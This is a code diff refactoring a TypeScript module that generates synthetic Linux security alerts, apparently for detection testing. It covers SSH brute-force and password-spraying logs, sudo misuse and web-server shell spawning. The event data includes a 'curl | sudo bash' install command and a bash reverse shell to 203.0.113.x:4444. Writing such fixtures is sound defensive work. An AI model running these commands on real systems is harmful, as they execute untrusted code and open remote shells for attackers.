@@ -1,40 +1,14 @@
 /** Alert triggers on Linux by administrators, password guessing and careless scripts. */
 import { type Execution, executed, type SyslogLine, sshdAccepted, sshdFailed, sudoCommand, syslog } from '../events/linux.ts';
-import { type Acted, type AlertTrigger, auditedHosts, type Level, loggedHosts } from './alert-trigger.ts';
+import { type Acted, type AlertTrigger, auditedHosts, loggedHosts, trigger, triggersOf } from './alert-trigger.ts';
 
 const facing = ['jumpHost', 'webServer', 'cloudMachine'] as const;
 
-const runs = (
-  rule: string,
-  level: Level,
-  weight: number,
-  execution: (scene: Acted) => Execution,
-  more: Partial<AlertTrigger> = {},
-): AlertTrigger => ({
-  rule: `linux/${rule}`,
-  level,
-  weight,
-  roles: auditedHosts,
-  by: 'administrator',
-  make: (scene) => executed(scene, execution(scene)),
-  ...more,
-});
-
-const says = (
-  rule: string,
-  level: Level,
-  weight: number,
-  line: (scene: Acted) => SyslogLine,
-  more: Partial<AlertTrigger> = {},
-): AlertTrigger => ({
-  rule: `linux/${rule}`,
-  level,
-  weight,
-  roles: loggedHosts,
-  by: 'administrator',
-  make: (scene) => syslog(scene, line(scene)),
-  ...more,
-});
+const byAdministrator = { by: 'administrator' } as const;
+const runsAs = triggersOf<Execution>('linux', (scene, execution) => executed(scene, execution(scene)));
+const runs = runsAs({ roles: auditedHosts, ...byAdministrator });
+const saysAs = triggersOf<SyslogLine>('linux', (scene, line) => syslog(scene, line(scene)));
+const says = saysAs({ roles: loggedHosts, ...byAdministrator });
 
 const pid = ({ random }: Acted) => random.int(900, 60_000);
 const sudo = (scene: Acted, text: string): SyslogLine => ({
@@ -125,16 +99,11 @@ export const linuxTriggers: readonly AlertTrigger[] = [
   says('sudo-root-shell', 'medium', 34, (scene) =>
     sudo(scene, sudoCommand(scene.person.account, scene.random.pick(['/usr/bin/bash', '/bin/bash', '/usr/bin/su -']))),
   ),
-  says(
-    'sudo-user-not-in-sudoers',
-    'medium',
-    9,
-    (scene) =>
-      sudo(
-        scene,
-        `${scene.person.account.padStart(8)} : user NOT in sudoers ; TTY=pts/3 ; PWD=/home/${scene.person.account} ; USER=root ; COMMAND=/usr/bin/apt install htop`,
-      ),
-    { by: undefined },
+  saysAs({ roles: loggedHosts })('sudo-user-not-in-sudoers', 'medium', 9, (scene) =>
+    sudo(
+      scene,
+      `${scene.person.account.padStart(8)} : user NOT in sudoers ; TTY=pts/3 ; PWD=/home/${scene.person.account} ; USER=root ; COMMAND=/usr/bin/apt install htop`,
+    ),
   ),
   says('user-added-to-admin-group', 'medium', 4, (scene) => ({
     program: 'usermod',
@@ -142,48 +111,24 @@ export const linuxTriggers: readonly AlertTrigger[] = [
     pid: pid(scene),
     text: `add '${scene.person.account}' to group '${scene.random.pick(['docker', 'sudo'])}'`,
   })),
-  says(
-    'sshd-protocol-anomaly',
-    'medium',
-    6,
-    (scene) => sshd(scene, `Bad packet length 1349676916. [preauth] bad packet length from ${scene.random.pick(strangers)}`),
-    {
-      roles: facing,
-      hours: 'any',
-      by: undefined,
-    },
+  saysAs({ roles: facing, hours: 'any' })('sshd-protocol-anomaly', 'medium', 6, (scene) =>
+    sshd(scene, `Bad packet length 1349676916. [preauth] bad packet length from ${scene.random.pick(strangers)}`),
   ),
-  says(
+  saysAs({ ...byAdministrator, roles: ['backupServer', 'scanner', 'resolver'] })(
     'sshd-root-password-logon',
     'medium',
     3,
     (scene) => sshd(scene, sshdAccepted('root', `10.${scene.device.site.network}.1.40`, 51_122, 'password')),
-    {
-      roles: ['backupServer', 'scanner', 'resolver'],
-    },
   ),
-  {
-    rule: 'linux/sshd-brute-force',
-    level: 'medium',
-    weight: 8,
-    roles: facing,
-    hours: 'any',
-    make: (scene) =>
-      guesses(scene, scene.random.pick(strangers), scene.random.pick(guessedAccounts), scene.random.int(15, 19), 12_000),
-  },
-  {
-    rule: 'linux/sshd-password-spraying',
-    level: 'high',
-    weight: 6,
-    roles: facing,
-    hours: 'night',
-    make: (scene) => {
-      const from = scene.random.pick(strangers);
-      return guessedAccounts
-        .slice(0, 8)
-        .flatMap((user, index) => guesses({ ...scene, at: scene.at + index * 40_000 }, from, user, 1, 0));
-    },
-  },
+  trigger('linux/sshd-brute-force', 'medium', 8, { roles: facing, hours: 'any' }, (scene) =>
+    guesses(scene, scene.random.pick(strangers), scene.random.pick(guessedAccounts), scene.random.int(15, 19), 12_000),
+  ),
+  trigger('linux/sshd-password-spraying', 'high', 6, { roles: facing, hours: 'night' }, (scene) => {
+    const from = scene.random.pick(strangers);
+    return guessedAccounts
+      .slice(0, 8)
+      .flatMap((user, index) => guesses({ ...scene, at: scene.at + index * 40_000 }, from, user, 1, 0));
+  }),
   runs('download-piped-to-shell', 'medium', 7, ({ person }) =>
     shell(person.account, 'curl -fsSL https://install.toolbox.example/setup.sh | sudo bash'),
   ),
@@ -254,31 +199,18 @@ export const linuxTriggers: readonly AlertTrigger[] = [
     user: person.account,
     parent: '/usr/bin/bash',
   })),
-  runs(
-    'web-server-starts-shell',
-    'high',
-    3,
-    () => ({
-      executable: '/usr/bin/id',
-      args: ['id'],
-      user: 'www-data',
-      parent: '/usr/bin/dash',
-      directory: '/var/www/html',
-      terminal: '(none)',
-    }),
-    {
-      roles: ['webServer'],
-      hours: 'any',
-    },
-  ),
-  runs(
+  runsAs({ ...byAdministrator, roles: ['webServer'], hours: 'any' })('web-server-starts-shell', 'high', 3, () => ({
+    executable: '/usr/bin/id',
+    args: ['id'],
+    user: 'www-data',
+    parent: '/usr/bin/dash',
+    directory: '/var/www/html',
+    terminal: '(none)',
+  })),
+  runsAs({ ...byAdministrator, roles: ['webServer', 'cloudMachine'], hours: 'night' })(
     'reverse-shell',
     'critical',
     1,
     ({ random }) => shell('www-data', `bash -i >& /dev/tcp/203.0.113.${random.int(30, 60)}/4444 0>&1`),
-    {
-      roles: ['webServer', 'cloudMachine'],
-      hours: 'night',
-    },
   ),
 ];
